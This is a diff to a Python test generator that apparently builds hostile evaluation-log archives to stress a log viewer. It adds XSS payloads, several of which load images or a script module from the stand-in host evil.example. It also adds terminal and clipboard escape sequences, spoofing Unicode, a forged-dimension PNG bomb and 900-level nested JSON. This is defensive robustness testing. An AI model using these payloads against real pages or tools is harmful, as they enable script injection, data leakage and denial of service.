@@ -44,11 +44,11 @@ def header(name: str, policy: str, seed: str, samples: int) -> dict:
     }
 
 
-def write(path: Path, head: dict, samples: list[dict]) -> Path:
+def write(path: Path, head: dict, samples: list[dict], change=lambda text: text) -> Path:
     with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
         archive.writestr("_journal/start.json", json.dumps({"version": 2, "eval": head["eval"], "plan": head["plan"]}))
         for number, sample in enumerate(samples):
-            archive.writestr(f"samples/{sample['id']}_epoch_1.json", json.dumps(sample, ensure_ascii=False))
+            archive.writestr(f"samples/{sample['id']}_epoch_1.json", change(json.dumps(sample)))
         archive.writestr("header.json", json.dumps(head))
     return path
 
@@ -203,6 +203,11 @@ def hostile_texts(mark: str) -> list[str]:
         f"<video src=https://evil.example/{mark}.mp4 autoplay></video>", f"<math><mtext><script>{run}</script></mtext></math>", f"<details open ontoggle=\"{run}\">x</details>",
         f"<template><script>{run}</script></template>", f"<!--<img src=\"--><img src=x onerror={run}//\">", f"&lt;script&gt;{run}&lt;/script&gt;", f"{{{{constructor.constructor('{run}')()}}}}", f"${{{run}}}",
         f"https://evil.example/{mark}?auto", "\u202egnp.exe\u202c \u2066hidden\u2069 a\u200bb\ufeffc\u00ad d\u2028e\u2029f", "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x1b[2J\x9b1A\x07\x08\x7f\x00",
+        f"<svg><use href=\"data:image/svg+xml,<svg id=x onload={run}>#x\"></use></svg>", f"<svg><animate onbegin=\"{run}\" attributeName=x dur=1s></svg>", f"<svg><image href=https://evil.example/{mark}-svg.png /></svg>",
+        f"</style><style>*{{color:red;background:url(https://evil.example/{mark}4.png)}}", f"</title></textarea></pre></template><img src=x onerror={run}>", f"jAvA\tsCrIpT\n:{run}", f"javascript&colon;{run}", f"vbscript:{run}",
+        f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{run}'/>", f"<img srcset='https://evil.example/{mark}5.png 1x' loading=eager>", f"<input type=image src=https://evil.example/{mark}6.png formaction='javascript:{run}'>",
+        f"<dialog open id=toast><form id=chunks name=page><input name=dataset></form></dialog>", f"<p id=transcript-page data-path=https://evil.example/ data-steps=1>", f"<script type=module>import 'https://evil.example/{mark}.js'</script>", f"<marquee onstart={run}>x</marquee>",
+        "\x1b]52;c;ZXZpbA==\x07 \x1bP+q\x1b\\ \x1b[6n \x9c", "invisible \u3164\u115f\u2800\uffa0\u034f\ufe01\U000e0101 letters", "\u2067\u202d\u200f rtl \u202c", "lone \ud800 high, \udc00 low", "\ud83d\ude00 whole", "null \x00 in it", "%3Cscript%3E%0d%0aSet-Cookie:x=y", "__proto__", "constructor",
         "\U000e0041\U000e0042 tags", "A\u0301\u0300" * 40 + " zalgo", "x" * 5000, "`" * 40 + "\n# heading\n```html\n<b>bold</b>\n```", "<b>" * 500,
     ]
 
@@ -217,6 +222,7 @@ def hostile(path: Path) -> Path:
         place += 1
         return texts[place % len(texts)]
 
+    bomb = "data:image/png;base64," + base64.b64encode(base64.b64decode(png(1, 1).partition(",")[2]).replace(struct.pack(">II", 1, 1), struct.pack(">II", 60_000, 60_000), 1)).decode()
     svg = "data:image/svg+xml;base64," + base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"window.__ran='svg'\"><script>window.__ran='svg'</script></svg>").decode()
     false_png = "data:image/png;base64," + base64.b64encode(b"<html><script>window.__ran='png'</script>").decode()
     messages, events, verdicts, reasons = [], [], {}, {}
@@ -224,7 +230,7 @@ def hostile(path: Path) -> Path:
         call = {"id": evil(), "function": text[:200], "type": "function", "arguments": {evil()[:100]: evil(), "cmd": text, "deep": {evil()[:50]: [evil()]}}, "parse_error": evil()}
         call["id"] = f"{call['id'][:60]}{number}"
         message = {"id": f"m{number}{evil()[:40]}", "role": "assistant", "model": evil(), "source": "generate", "tool_calls": [call], "content": [
-            {"type": "reasoning", "reasoning": text, "summary": evil()}, {"type": "text", "text": text}, {"type": "image", "image": svg}, {"type": "image", "image": false_png},
+            {"type": "reasoning", "reasoning": text, "summary": evil()}, {"type": "text", "text": text}, {"type": "image", "image": svg}, {"type": "image", "image": false_png}, {"type": "image", "image": bomb},
             {"type": "image", "image": f"https://evil.example/{number}.png"}, {"type": "image", "image": f"javascript:window.__ran='image'"}, {"type": "audio", "audio": evil(), "format": "wav"},
             {"type": "document", "document": evil(), "filename": evil()}, {"type": evil()[:60], evil()[:40]: evil()}]}
         messages.append(message)
@@ -254,7 +260,13 @@ def hostile(path: Path) -> Path:
     head = header(texts[0], texts[2], path.stem, 1)
     head["eval"]["metadata"] |= {"tags": [texts[0], texts[2], texts[32]], "task_set": texts[4]}
     head["eval"]["model"] = texts[2]
-    return write(path, head, [sample])
+    # One line of two million characters, an object deeper than any parser's stack, thousands of calls and members.
+    line = {"id": "line", "role": "assistant", "content": [{"type": "text", "text": texts[2] + "0" * 2_000_000}], "tool_calls": [
+        {"id": "line", "function": texts[0] * 40, "type": "function", "arguments": {f"{number} {texts[2]}": texts[0] for number in range(1000)}}]}
+    crowd = {"id": "crowd", "role": "assistant", "content": "", "tool_calls": [{"id": f"crowd-{number}", "function": texts[number % len(texts)], "type": "function", "arguments": {}} for number in range(1000)]}
+    sample["messages"] += [line, {"id": "line-output", "role": "tool", "tool_call_id": "line", "content": "<b>" * 500_000}, crowd]
+    sample["events"].append({"event": "info", "source": "deep", "data": "DEEP"})
+    return write(path, head, [sample], lambda text: text.replace('"DEEP"', '{"<b>":[' * 900 + "]}" * 900))
 
 
 def huge(path: Path, actions: int = 20_000, output_bytes: int = 12_000) -> Path:
